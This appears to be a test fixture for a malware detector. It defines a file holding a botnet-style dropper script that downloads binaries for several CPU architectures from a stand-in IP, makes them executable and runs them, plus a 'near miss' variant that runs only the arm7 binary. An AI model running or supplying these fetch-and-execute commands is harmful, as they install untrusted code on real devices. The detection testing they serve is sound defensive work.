file("assets/l", "#!/bin/sh\ncd /tmp\nwget http://203.0.113.9/b.mips; chmod 777 b.mips; ./b.mips\nwget http://203.0.113.9/b.arm7; chmod 777 b.arm7; ./b.arm7\nwget http://203.0.113.9/b.sh4; chmod 777 b.sh4; ./b.sh4\n")

# near miss: fetches the one program that fits
file("assets/l", "#!/bin/sh\ncd /tmp\n# not for mips, sh4\nwget http://203.0.113.9/b.arm7; chmod 777 b.arm7; ./b.arm7\n")
